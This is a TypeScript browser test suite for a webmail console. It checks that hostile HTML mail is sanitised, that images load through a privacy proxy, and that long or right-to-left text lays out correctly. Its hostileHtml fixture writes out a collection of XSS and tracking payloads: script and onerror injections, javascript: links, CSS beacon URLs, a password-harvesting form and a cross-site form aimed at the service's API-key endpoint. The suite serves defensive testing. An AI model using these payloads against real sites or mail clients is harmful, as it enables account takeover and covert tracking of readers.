// HTML mail that tries to run scripts, fetch resources, submit forms and imitate the console: none of it succeeds.

import assert from 'node:assert/strict'
import { once } from 'node:events'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { after, before, suite, test } from 'node:test'
import type { Inbox } from '@mailroom/sdk'
import { examine } from '#test/browser/axe.ts'
import { DESK, PHONE } from '#test/browser/chromium.ts'
import {
  type ConsoleWorld,
  chooseInMenu,
  foreignRequests,
  htmlMail,
  openConsoleWorld,
  plainMail,
} from '#test/browser/console-world.ts'

/** A one by one PNG. */
const PIXEL = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNk+A8AAQUBAScY42YAAAAASUVORK5CYII=',
  'base64',
)

suite('hostile HTML in the console', () => {
  let world: ConsoleWorld
  let trap: Server
  let trapUrl = ''
  const trapped: { path: string; headers: string }[] = []
  let inbox: Inbox

  before(async () => {
    trap = createServer((request, response) => {
      trapped.push({ path: request.url ?? '', headers: JSON.stringify(request.headers) })
      response.writeHead(200, { 'content-type': 'image/png', 'access-control-allow-origin': '*' })
      response.end(PIXEL)
    }).listen(0, '127.0.0.1')
    await once(trap, 'listening')
    trapUrl = `http://127.0.0.1:${(trap.address() as AddressInfo).port}`
    world = await openConsoleWorld()
    inbox = await world.client.inboxes.create({ mailboxName: 'target' })
    await world.deliver(
      inbox.address,
      htmlMail({ subject: 'You have won', html: hostileHtml(trapUrl, world.service.baseUrl) }),
    )
    await world.signIn(`/console/inboxes/${inbox.id}`)
  })
  after(async () => {
    trap.close()
    trap.closeAllConnections()
    await world.close()
  })

  test('reading it runs no script and fetches nothing', async () => {
    const { page } = world
    await page.getByRole('link', { name: /You have won/ }).click()
    const frame = page.frameLocator('.mail-frame iframe')
    await frame.getByText('Claim your prize').waitFor()
    await page.waitForTimeout(1_500)
    assert.deepEqual(trapped, [])
    assert.deepEqual(foreignRequests(world), [])
    assert.equal(await page.title(), 'You have won · Mailroom')
    assert.equal(new URL(page.url()).origin, world.service.baseUrl)
    assert.equal(await page.evaluate(() => 'pwned' in globalThis), false)
    assert.equal(world.browser.context.pages().length, 1)
  })

  test('its forms and links do not leave the frame by themselves', async () => {
    const { page } = world
    const frame = page.frameLocator('.mail-frame iframe')
    assert.equal(
      await frame.locator('form, script, object, embed, iframe, base, meta[http-equiv]').count(),
      0,
    )
    const button = frame.getByText('Send it now')
    if ((await button.count()) > 0)
      await button
        .first()
        .click({ timeout: 2_000 })
        .catch(() => {})
    await page.waitForTimeout(500)
    assert.deepEqual(trapped, [])
  })

  test('images that the reader asks for come through the service, which tells the sender nothing about the reader', async () => {
    const { page } = world
    await page.getByRole('button', { name: 'Show images' }).click()
    const frame = page.frameLocator('.mail-frame iframe')
    await frame.getByText('Claim your prize').waitFor()
    const image = frame.locator('img[alt="banner"]')
    await image.waitFor()
    for (let tries = 0; tries < 40 && trapped.length === 0; tries++) await page.waitForTimeout(250)
    assert.ok(trapped.some(({ path }) => path === '/banner.png'))
    const width = await image.evaluate((element) => Reflect.get(element, 'naturalWidth'))
    assert.equal(width, 1, 'the image is shown')
    assert.ok(trapped.every(({ headers }) => !/cookie|referer|mozilla/i.test(headers)))
    assert.deepEqual(foreignRequests(world), [])
  })

  test('markup in a subject or a name is shown as text', async () => {
    const { page } = world
    const name = '"<img src=x onerror=alert(1)>" <eve@stranger.example>'
    await world.deliver(
      inbox.address,
      htmlMail({ subject: '<script>document.title="x"</script>', html: '<p>Hi</p>', from: name }),
    )
    await page.getByText('<script>document.title="x"</script>').first().waitFor()
    await page.getByText('<img src=x onerror=alert(1)>').first().waitFor()
    assert.equal(await page.locator('.mail-list img').count(), 0)
  })

  test('a subject, a name, recipients and labels of any length leave the mail in sight', async () => {
    const { page, client } = world
    const words = 'Many words of a subject that never ends '.repeat(250).match(/.{1,70}/g) ?? []
    const guests = Array.from({ length: 60 }, (_, n) => `guest${n}@a-long-domain-name.example`)
    const raw = plainMail({
      subject: words.join('\r\n '),
      text: 'The text itself.',
      from: `${'N'.repeat(200)} <n@stranger.example>`,
      more: `Cc: ${guests.join(',\r\n ')}\r\n`,
    })
    await world.deliver(inbox.address, raw)
    const [thread] = (await client.threads.list(inbox.id).page()).data
    assert.ok(thread !== undefined && thread.subject.length > 9_000)
    const addLabels = Array.from({ length: 60 }, (_, n) => `a-label-of-many-${n}`)
    await client.threads.update(thread.id, { addLabels })
    await world.open(`/console/inboxes/${inbox.id}/threads/${thread.id}`)
    await page.getByText('The text itself.').last().waitFor()
    for (const part of ['.thread-head', '.message-head', '.thread-row']) {
      const box = await page.locator(part).first().boundingBox()
      assert.ok(box !== null && box.height < 250, `${part} is ${box?.height} px high`)
    }
    await examine(world, 'hostile-length')
    await chooseInMenu(page, 'Remove')
    const question = await page.getByRole('dialog').innerText()
    assert.ok(question.length < 600, question)
    await page.keyboard.press('Escape')
  })

  test('long words do not widen a table', async () => {
    const { page, client } = world
    const to = `${'a'.repeat(60)}@${'b'.repeat(60)}.${'c'.repeat(60)}.example`
    const mail = { to, subject: 's'.repeat(700), body: 'Text.' }
    await client.inboxes.send(inbox.id, mail)
    await client.drafts.create(inbox.id, { ...mail, to: [to] })
    await world.untilFound(inbox.address, 'subject:never', 1)
    const { id } = await client.domains.create({ domain: `${'d'.repeat(60)}.example.net` })
    const pages = {
      sandbox: '.table-wrap',
      drafts: '.table-wrap',
      'search?q=never': '.hits',
      [`domains/${id}`]: '.records',
    }
    for (const [path, part] of Object.entries(pages)) {
      await world.open(`/console/${path}`)
      await page.locator(part).waitFor()
      for (const window of [DESK, PHONE]) {
        await page.setViewportSize(window)
        const [wide, seen] = await page
          .locator(part)
          .evaluate(({ scrollWidth, clientWidth }) => [scrollWidth, clientWidth])
        assert.equal(wide, seen, `${path} at ${window.width} px`)
      }
      await page.setViewportSize(DESK)
    }
    await world.open('/console/sandbox')
    await page.locator('.table-wrap').waitFor()
    await examine(world, 'hostile-sandbox')
  })

  test('right-to-left text has its own direction', async () => {
    const { page } = world
    const subject = `=?utf-8?B?${Buffer.from('חשבונית 2041!').toString('base64')}?=`
    const more = 'Content-Transfer-Encoding: 8bit\r\n'
    await world.deliver(inbox.address, plainMail({ subject, text: 'שלום, תודה.', more }))
    await world.open(`/console/inboxes/${inbox.id}`)
    const listed = page.locator('.thread-subject').filter({ hasText: 'חשבונית' })
    await listed.click()
    await page.locator('.mail-text').getByText('תודה').waitFor()
    const style = (of: typeof listed, name: string) =>
      of.first().evaluate((element, key) => Reflect.get(getComputedStyle(element), key), name)
    assert.equal(await style(listed, 'direction'), 'rtl')
    for (const part of ['.thread-head h2', '.mail-text']) {
      assert.equal(await style(page.locator(part), 'unicodeBidi'), 'plaintext', part)
    }
  })
})

function hostileHtml(trap: string, service: string): string {
  return `<html><head>
<meta http-equiv="refresh" content="0;url=${trap}/refresh">
<base href="${trap}/base/">
<link rel="stylesheet" href="${trap}/sheet.css"><link rel="preload" as="image" href="${trap}/preload.png">
<link rel="dns-prefetch" href="${trap}"><link rel="icon" href="${trap}/icon.png">
<style>@import url("${trap}/import.css"); @font-face { font-family: x; src: url(${trap}/font.woff) }
body { background: url("${trap}/css.png"); font-family: x } p[title^="a"] { background: url(${trap}/leak?a) }
li { list-style-image: url(${trap}/li.png) } .c { cursor: url(${trap}/cursor.cur), auto; content: url(${trap}/content.png) }</style>
<script>parent.pwned = 1; top.document.title = 'pwned'; fetch('${trap}/fetch')</script>
<script src="${trap}/script.js"></script></head>
<body background="${trap}/body.png" onload="top.pwned=1">
<h1>Claim your prize</h1><p title="abc" class="c">Click below.</p>
<img alt="banner" src="${trap}/banner.png" onerror="top.pwned=1"><img src="x" onerror="parent.pwned=1">
<img alt="set" srcset="${trap}/set.png 1x, ${trap}/set2.png 2x">
<picture><source srcset="${trap}/picture.png"><img alt="p" src="${trap}/picture-img.png"></picture>
<video poster="${trap}/poster.png" src="${trap}/video.mp4" autoplay></video><audio src="${trap}/audio.mp3" autoplay></audio>
<svg xmlns="http://www.w3.org/2000/svg"><script>top.pwned=1</script><image href="${trap}/svg.png" xlink:href="${trap}/svg2.png"/><use href="${trap}/use.svg#a"/></svg>
<object data="${trap}/object"></object><embed src="${trap}/embed"><iframe src="${trap}/iframe"></iframe><iframe srcdoc="<script>top.pwned=1</script>"></iframe>
<form action="${trap}/form" method="post"><input name="password" autofocus><button>Send it now</button></form>
<form action="${service}/v1/api-keys" method="post"><input type="submit" value="Send it now"></form>
<a href="javascript:top.pwned=1">script link</a><a href="${trap}/ping" ping="${trap}/ping2">link</a>
<table background="${trap}/table.png"><tr><td background="${trap}/td.png" style="background:url(${trap}/td-style.png)">cell</td></tr></table>
<div style="position:fixed;inset:0;background-image:image-set(url(${trap}/set3.png) 1x)">cover</div>
<ul><li>item</li></ul></body></html>`
}
